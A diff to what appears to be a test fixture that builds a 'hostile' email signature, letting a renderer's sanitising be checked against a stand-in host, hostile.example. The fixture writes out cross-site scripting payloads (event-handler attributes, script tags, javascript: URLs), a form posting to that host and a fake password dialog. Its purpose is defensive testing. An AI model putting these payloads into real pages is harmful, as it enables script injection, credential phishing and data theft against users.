@@ -80,7 +80,7 @@ const BANNER = svg(
 /** Where the hostile signature would send what it finds. A page that shows it may ask this host for images, and for nothing else. */
 export const HOSTILE_HOST = 'https://hostile.example';
 /** The images of the hostile signature: the only requests that it may cause. */
-export const HOSTILE_IMAGES = ['logo.png', 'open.gif?user=1'].map((name) => `${HOSTILE_HOST}/${name}`);
+export const HOSTILE_IMAGES = ['logo.png', 'open.gif?user=1', 'poster.png'].map((name) => `${HOSTILE_HOST}/${name}`);
 
 /** Every attempt sets `stolen` on a window, asks the host, opens a dialog, or leaves the page. */
 function hostile(user: SigniticUser): string {
@@ -107,7 +107,7 @@ function hostile(user: SigniticUser): string {
 <form action="${at}/posted" method="post" target="_top"><input name="key" autofocus onfocus="${steal}"><button id="hostile-button">Send</button></form>
 <svg onload="${steal}"><script>${steal}</script><use href="${at}/use.svg#a"/><animate onbegin="${steal}" attributeName="x" dur="1s"/></svg>
 <math href="javascript:${steal}"><mtext>m</mtext></math>
-<video autoplay src="${at}/video.mp4" poster="${at}/video.mp4" onerror="${steal}"></video><audio autoplay src="${at}/audio.mp3"></audio>
+<video autoplay src="${at}/video.mp4" poster="${HOSTILE_IMAGES[2]}" onerror="${steal}"></video><audio autoplay src="${at}/audio.mp3"></audio>
 <details open ontoggle="${steal}"><summary>More</summary></details><marquee onstart="${steal}">m</marquee>
 <dialog open style="position:fixed;inset:0">Enter your password</dialog>
 <img src="javascript:${steal}"><img src=x onerror="${steal}">
